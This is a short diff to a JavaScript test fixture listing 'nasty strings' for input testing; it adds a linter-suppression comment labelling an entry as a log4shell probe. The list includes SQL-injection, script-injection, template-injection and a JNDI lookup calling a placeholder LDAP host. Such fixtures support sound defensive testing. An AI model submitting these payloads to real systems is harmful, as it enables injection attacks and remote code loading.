@@ -30,6 +30,7 @@ export const NASTY_STRINGS = [
   '%E0%A4%A',
   "' OR '1'='1",
   '<script>alert(1)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally
   '${jndi:ldap://x/a}',
   '{{7*7}}',
   '\uFEFF',
